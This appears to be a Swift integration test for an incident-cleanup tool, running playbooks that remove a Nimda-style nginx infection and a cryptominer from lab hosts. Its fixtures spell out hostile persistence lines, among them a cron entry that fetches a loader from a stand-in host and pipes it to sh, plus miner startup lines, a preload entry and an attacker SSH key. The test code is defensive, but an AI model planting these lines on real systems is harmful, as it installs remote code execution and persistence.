import Foundation
import ScourEngine
import ScourHost
import ScourLab
import ScourSSH
import TestSupport
import Testing

/// The shipped playbooks (Playbooks/nimda-nginx.scour, Playbooks/cryptominer-cron-sshkey.scour)
/// run by the real `scour` against the lab scenario that plants their incident, on six hosts of
/// which three are infected: plan (detections only where infected, each host's own paths, line
/// diffs, the miner's pid and hash), apply, a second plan with nothing to do, and restore — the
/// hosts checked after each over plain OpenSSH, independently of Scour.
@Suite(.needs(.lab))
struct PlaybooksOnLabTests {
    static let repository = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
    static let nimda = repository.appendingPathComponent("Playbooks/nimda-nginx.scour").path
    static let miner = repository.appendingPathComponent("Playbooks/cryptominer-cron-sshkey.scour").path

    static let scriptLine = #"<script language="JavaScript">window.open("readme.eml", null, "resizable=no,top=6000,left=6000")</script>"#
    static let pages = ["about/index.htm", "downloads/index.html", "index.html", "news/2001/september.htm", "products/catalog.html"]
    static let site = "/etc/nginx/sites-enabled/default"

    /// The file each persistence line is in, and the line the scenario appends on infected hosts.
    static let persistence = [
        "/etc/cron.d/sysstat": "*/10 * * * * root (curl -fsSL http://pool.invalid/ldr.sh || wget -q -O - http://pool.invalid/ldr.sh) | sh >/dev/null 2>&1",
        "/etc/ld.so.preload": "/etc/libsystem.so",
        "/etc/rc.local": "/opt/.kworker/kworkerds -o stratum+tcp://pool.invalid:3333 >/dev/null 2>&1 &",
        "/root/.ssh/authorized_keys": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMinerKworkerdsStratumPoolInvalid3333Persist x@kworker",
        "/var/spool/cron/crontabs/root": "@reboot /opt/.kworker/kworkerds -o stratum+tcp://pool.invalid:3333 >/dev/null 2>&1",
    ]
    static let minerFiles = ["/etc/libsystem.so", "/opt/.kworker/config.json", "/opt/.kworker/kworkerds"]

    // MARK: - Nimda on nginx

    @Test func nimda_nginx_cleans_each_hosts_own_web_root_and_restore_puts_it_all_back() async throws {
        let lab = try await LabFixture(hosts: 6, scenario: "nimda-nginx")
        let hosts = lab.state.hosts
        #expect(hosts.map(\.infected) == [false, true, false, true, false, true])
        let roots = try webRoots(lab)
        #expect(roots == ["h01": "/srv/www/h01", "h02": "/srv/www/h02", "h03": "/var/www/html", "h04": "/var/www/html",
                          "h05": "/srv/www/h05", "h06": "/srv/www/h06"], "infected hosts with a web root of their own and with the default")
        let fingerprint = { (host: LabState.Host) in try await self.fingerprint(lab, host, [roots[host.name]!, Self.site]) }
        let before = try await Dictionary(uniqueKeysWithValues: hosts.asyncMap { ($0.name, try await fingerprint($0)) })
        let arguments = [Self.nimda, "-i", lab.inventory, "--known-hosts", lab.knownHosts, "--param", "test_nginx=false"]

        // Plan: the worm found only where it is, each host's paths in its own web root.
        let plan = try await scour(lab, ["plan"] + arguments + ["--format", "json"])
        #expect(plan.status == 0, "\(plan.stdout)\(plan.stderr)")
        let planned = try hostPlans(plan.stdout)
        for host in hosts {
            let root = roots[host.name]!
            let steps = try #require(planned[host.name]).steps
            #expect(try #require(planned[host.name]).matched == ["nimda": host.infected], "\(host.name)")
            guard host.infected else {
                #expect(steps.allSatisfy { $0.action != "change" }, "\(host.name) is clean: \(steps)")
                continue
            }
            #expect(steps.map(\.action) == ["change", "change", "change", "change", "change"],
                    "\(host.name): files, locations, reload, pages, page check: \(steps.map(\.reason))")
            #expect(steps[0].paths == ["\(root)/admin.dll", "\(root)/readme.eml"], "\(host.name)")
            #expect(steps[1].paths == [Self.site])
            #expect(steps[1].diffs.first?.contains("-\tlocation /c {") == true)
            #expect(steps[3].paths.sorted() == Self.pages.map { "\(root)/\($0)" }, "\(host.name): every page of its own root")
            #expect(steps[3].diffs.allSatisfy { $0.contains("\n-\(Self.scriptLine)\n") && $0.contains(" </html>") },
                    "\(host.name): the diff removes the line, with context: \(steps[3].diffs)")
            #expect(steps.flatMap(\.paths).allSatisfy { $0 == Self.site || $0.hasPrefix(root + "/") }, "\(host.name): nothing outside its own web root")
        }
        let pagesBefore = try await Dictionary(uniqueKeysWithValues: hosts.filter(\.infected).asyncMap { host in
            (host.name, try await Self.pages.asyncMap { try await lab.ssh(host, "cat \(roots[host.name]!)/\($0)").stdout })
        })

        // Apply: the worm's files, locations and line gone; clean hosts untouched.
        let applied = try await scour(lab, ["apply"] + arguments + ["--no-progress"])
        #expect(applied.status == 0, "\(applied.stdout)\(applied.stderr)")
        for host in hosts {
            let root = roots[host.name]!
            guard host.infected else {
                #expect(try await fingerprint(host) == before[host.name], "\(host.name) is clean: not a byte changed")
                continue
            }
            let state = try await lab.ssh(host, """
                ls \(root)/admin.dll \(root)/readme.eml 2>/dev/null; grep -rlF readme.eml \(root)
                echo "worm-locations $(grep -cE '^[[:space:]]*location (/c|\\^~ /d/|~ \\\\\\.eml\\$) \\{' \(Self.site))"
                echo "other-locations $(grep -cE '^[[:space:]]*location (/|/downloads/|~\\* .*) \\{' \(Self.site))"
                echo "comment $(grep -c '# Added by the worm' \(Self.site))"
                """)
            #expect(state.stdout == "worm-locations 0\nother-locations 3\ncomment 1\n", "\(host.name): \(state.stdout)\(state.stderr)")
            for (page, text) in zip(Self.pages, pagesBefore[host.name]!) {
                #expect(try await lab.ssh(host, "cat \(root)/\(page)").stdout == text.replacingOccurrences(of: Self.scriptLine + "\n", with: ""),
                        "\(host.name): \(page) is the page without the worm's line")
            }
        }
        let run = try lastRun(lab)

        // Nothing left to do.
        let again = try await scour(lab, ["plan"] + arguments + ["--format", "json"])
        #expect(again.status == 0, "\(again.stderr)")
        for (name, host) in try hostPlans(again.stdout) {
            #expect(host.matched == ["nimda": false], "\(name)")
            #expect(host.steps.allSatisfy { $0.action != "change" }, "\(name): \(host.steps)")
        }

        // Restore: the worm's files, locations and lines back, byte for byte.
        let restored = try await scour(lab, ["restore", run])
        #expect(restored.status == 0, "\(restored.stdout)\(restored.stderr)")
        #expect(restored.stdout.contains("restored 6 files and 18 configs; 0 problems"), "\(restored.stdout)")
        for host in hosts {
            #expect(try await fingerprint(host) == before[host.name], "\(host.name): every file as it was")
        }
    }

    // MARK: - Cryptominer with cron, rc.local, preload and SSH key persistence

    @Test func cryptominer_is_killed_its_lines_removed_and_restore_puts_files_and_lines_back() async throws {
        let lab = try await LabFixture(hosts: 6, scenario: "cryptominer")
        let hosts = lab.state.hosts
        #expect(hosts.map(\.infected) == [false, true, false, true, false, true])
        let watched = Self.persistence.keys.sorted() + ["/etc/cron.d"] + Self.minerFiles
        let before = try await Dictionary(uniqueKeysWithValues: hosts.asyncMap { ($0.name, try await fingerprint(lab, $0, watched)) })
        let texts = try await Dictionary(uniqueKeysWithValues: hosts.asyncMap { host in
            (host.name, try await Self.persistence.keys.sorted().asyncMap { try await lab.ssh(host, "cat \($0)").stdout })
        })
        let miners = try await Dictionary(uniqueKeysWithValues: hosts.filter(\.infected).asyncMap { host in
            let pid = try await lab.ssh(host, "pgrep -x kworkerds").stdout.trimmingCharacters(in: .whitespacesAndNewlines)
            let sha = try await lab.ssh(host, "sha256sum /opt/.kworker/kworkerds").stdout.prefix(64)
            return (host.name, (pid: Int(pid) ?? -1, sha256: String(sha)))
        })
        let boots = try await lab.boots()
        let arguments = [Self.miner, "-i", lab.inventory, "--known-hosts", lab.knownHosts]

        // Plan: the miner listed with its pid, executable and hash; each persistence line's diff.
        let plan = try await scour(lab, ["plan"] + arguments + ["--format", "json"])
        #expect(plan.status == 0, "\(plan.stdout)\(plan.stderr)")
        let planned = try hostPlans(plan.stdout)
        for host in hosts {
            let steps = try #require(planned[host.name]).steps
            #expect(try #require(planned[host.name]).matched == ["miner": host.infected], "\(host.name)")
            guard host.infected, let miner = miners[host.name] else {
                #expect(steps.allSatisfy { $0.action != "change" }, "\(host.name) is clean: \(steps)")
                continue
            }
            func step(_ name: String) throws -> Step { try #require(steps.first { $0.name == name }, "\(host.name): no step \(name)") }
            let kill = try step("miner")
            #expect(kill.action == "change")
            #expect(kill.changes.count == 1, "\(host.name): one process: \(kill.changes)")
            let process = try #require(kill.changes.first)
            #expect(process["pid"] as? Int == miner.pid, "\(host.name): the pid ps shows")
            #expect(process["path"] as? String == "/opt/.kworker/kworkerds")
            #expect(process["sha256"] as? String == miner.sha256)
            #expect(process["owner"] as? String == "root")
            #expect(process["command"] as? String == "/opt/.kworker/kworkerds -o stratum+tcp://pool.invalid:3333")
            #expect(try step("miner_files").paths == ["/opt/.kworker/kworkerds", "/opt/.kworker/config.json", "/etc/libsystem.so"])
            let lines = ["preload": ["/etc/ld.so.preload"], "cron_entries": ["/etc/cron.d/sysstat", "/var/spool/cron/crontabs/root"],
                         "rc_local": ["/etc/rc.local"], "attacker_key": ["/root/.ssh/authorized_keys"]]
            for (name, files) in lines {
                let edit = try step(name)
                #expect(edit.paths == files, "\(host.name) \(name): only the files holding the line (not e2scrub_all)")
                for (file, diff) in zip(edit.paths, edit.diffs) {
                    #expect(diff.contains("\n-\(Self.persistence[file]!)\n"), "\(host.name) \(file): \(diff)")
                    #expect(diff.components(separatedBy: "\n").filter { $0.hasPrefix("-") && !$0.hasPrefix("---") }.count == 1,
                            "\(host.name) \(file): one line removed: \(diff)")
                }
            }
            #expect(try step("clear_memory").action == "change")
        }

        // Apply: the miner gone and not back after the reboot, its files quarantined, its lines
        // gone and every other line kept; clean hosts untouched and not rebooted.
        let applied = try await scour(lab, ["apply"] + arguments + ["--no-progress"])
        #expect(applied.status == 0, "\(applied.stdout)\(applied.stderr)")
        let rebooted = try await lab.boots()
        for host in hosts {
            guard host.infected else {
                #expect(try await fingerprint(lab, host, watched) == before[host.name], "\(host.name) is clean: not a byte changed")
                #expect(rebooted[host.name] == boots[host.name], "\(host.name) is not rebooted")
                continue
            }
            #expect(rebooted[host.name] == boots[host.name].map { $0 + 1 }, "\(host.name) rebooted once")
            let state = try await lab.ssh(host, """
                pgrep -a kworkerds; ls \(Self.minerFiles.joined(separator: " ")) 2>/dev/null
                echo "preloaded $(grep -c -e /etc/libsystem.so -e liboneagentproc.so /proc/self/maps)"
                """)
            #expect(state.stdout == "preloaded 1\n", "\(host.name): no miner, no miner files, the agent's library still loaded: \(state.stdout)")
            #expect(state.stderr.isEmpty, "no program complains of a missing preload: \(state.stderr)")
            for (file, text) in zip(Self.persistence.keys.sorted(), texts[host.name]!) {
                #expect(try await lab.ssh(host, "cat \(file)").stdout == text.replacingOccurrences(of: Self.persistence[file]! + "\n", with: ""),
                        "\(host.name): \(file) lost exactly its line")
            }
        }
        let run = try lastRun(lab)

        // The journal and the report record what was killed.
        let killed = try journal(lab, run).filter { $0["event"] as? String == "step_finished" && $0["kind"] as? String == "kill_process" }
        for host in hosts {
            let record = try #require(killed.first { $0["host"] as? String == host.name }, "\(host.name)")
            #expect(record["status"] as? String == (host.infected ? "changed" : "skipped"), "\(host.name): \(record)")
            if let miner = miners[host.name] {
                let changes = record["changes"] as? [String] ?? []
                #expect(changes.count == 1 && changes[0].hasPrefix("stop pid \(miner.pid) (root, /opt/.kworker/kworkerds, sha256 \(miner.sha256.prefix(12))"),
                        "\(host.name): \(changes)")
            }
        }
        let report = try await scour(lab, ["report", run])
        #expect(report.status == 0, "\(report.stderr)")
        for miner in miners.values {
            #expect(report.stdout.contains("`miner` (kill_process): `stop pid \(miner.pid) (root, /opt/.kworker/kworkerds, sha256 \(miner.sha256.prefix(12))"),
                    "\(report.stdout)")
        }

        // Nothing left to do.
        let again = try await scour(lab, ["plan"] + arguments + ["--format", "json"])
        #expect(again.status == 0, "\(again.stderr)")
        for (name, host) in try hostPlans(again.stdout) {
            #expect(host.matched == ["miner": false], "\(name)")
            #expect(host.steps.allSatisfy { $0.action != "change" }, "\(name): \(host.steps)")
        }

        // Restore: the quarantined files go back before the edited files (so the preload line
        // never names a missing library), every line back byte for byte. "Killing cannot be
        // undone" (docs/playbook-language.md, kill_process): the miner stays stopped until a boot.
        let restored = try await scour(lab, ["restore", run])
        #expect(restored.status == 0, "\(restored.stdout)\(restored.stderr)")
        #expect(restored.stdout.contains("restored 9 files and 15 configs; 0 problems"), "\(restored.stdout)")
        let putBack = try journal(lab, run).filter { $0["event"] as? String == "file_restored" }
        for host in hosts.filter(\.infected) {
            let paths = putBack.filter { $0["host"] as? String == host.name }.compactMap { $0["path"] as? String }
            let library = try #require(paths.firstIndex(of: "/etc/libsystem.so"), "\(host.name): \(paths)")
            let preload = try #require(paths.firstIndex(of: "/etc/ld.so.preload"), "\(host.name): \(paths)")
            #expect(library < preload, "\(host.name): the library is back before the line naming it: \(paths)")
        }
        for host in hosts {
            #expect(try await fingerprint(lab, host, watched) == before[host.name], "\(host.name): every file as it was")
            let state = try await lab.ssh(host, "pgrep -x kworkerds; echo \"preloaded $(grep -c -e /etc/libsystem.so -e liboneagentproc.so /proc/self/maps)\"")
            #expect(state.stdout == "preloaded \(host.infected ? 2 : 1)\n", "\(host.name): \(state.stdout)")
            #expect(state.stderr.isEmpty, "\(host.name): \(state.stderr)")
        }
    }

    // MARK: - Helpers

    private func scour(_ lab: LabFixture, _ arguments: [String]) async throws -> ScourCLI.Result {
        try await ScourCLI.run(arguments, environment: ["SCOUR_RUNS_DIR": lab.directory + "/runs"])
    }

    private func lastRun(_ lab: LabFixture) throws -> String {
        try #require(try FileManager.default.contentsOfDirectory(atPath: lab.directory + "/runs").sorted().last)
    }

    private func journal(_ lab: LabFixture, _ run: String) throws -> [[String: Any]] {
        let text = try String(contentsOfFile: "\(lab.directory)/runs/\(run)/journal.jsonl", encoding: .utf8)
        return try text.split(separator: "\n").map { try JSONSerialization.jsonObject(with: Data($0.utf8)) as! [String: Any] }
    }

    /// Each host's web root as the inventory names it, /var/www/html where it names none.
    private func webRoots(_ lab: LabFixture) throws -> [String: String] {
        let inventory = try String(contentsOfFile: lab.inventory, encoding: .utf8).split(separator: "\n")
        var roots: [String: String] = [:]
        for host in lab.state.hosts {
            let line = try #require(inventory.first { $0.hasPrefix(host.name + " ") })
            let root = line.split(separator: " ").first { $0.hasPrefix("web_root=") }.map { String($0.dropFirst("web_root=".count)) }
            roots[host.name] = root ?? "/var/www/html"
        }
        return roots
    }

    /// Every regular file under `paths` (files or folders): name, mode, owner, mtime, SHA-256.
    private func fingerprint(_ lab: LabFixture, _ host: LabState.Host, _ paths: [String]) async throws -> String {
        let listed = try await lab.ssh(host, """
            find \(paths.map(ShellQuote.posix).joined(separator: " ")) -type f 2>/dev/null | LC_ALL=C sort | while read -r file; do
              echo "$(stat -c '%n %a %U:%G %Y %s' "$file") $(sha256sum < "$file" | cut -c1-64)"
            done
            """)
        #expect(listed.stderr.isEmpty, "\(host.name): \(listed.stderr)")
        return listed.stdout
    }

    /// A host's plan as the JSON plan states it.
    struct HostPlan {
        var matched: [String: Bool]
        var steps: [Step]
    }

    struct Step: CustomStringConvertible {
        var name: String
        var action: String
        var reason: String
        var changes: [[String: Any]]
        var paths: [String] { changes.compactMap { $0["path"] as? String } }
        var diffs: [String] { changes.compactMap { $0["diff"] as? String } }
        var description: String { "\(name): \(action) (\(reason))" }
    }

    private func hostPlans(_ json: String) throws -> [String: HostPlan] {
        let document = try #require(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [String: Any])
        let hosts = try #require(document["hosts"] as? [[String: Any]])
        return Dictionary(uniqueKeysWithValues: hosts.map { host in
            let detections = host["detections"] as? [[String: Any]] ?? []
            let steps = (host["steps"] as? [[String: Any]] ?? []).map { step in
                Step(name: step["name"] as? String ?? "", action: step["action"] as? String ?? "", reason: step["reason"] as? String ?? "",
                     changes: step["changes"] as? [[String: Any]] ?? [])
            }
            return (host["name"] as? String ?? "", HostPlan(
                matched: Dictionary(uniqueKeysWithValues: detections.map { ($0["name"] as? String ?? "", $0["matched"] as? Bool ?? false) }),
                steps: steps))
        })
    }
}
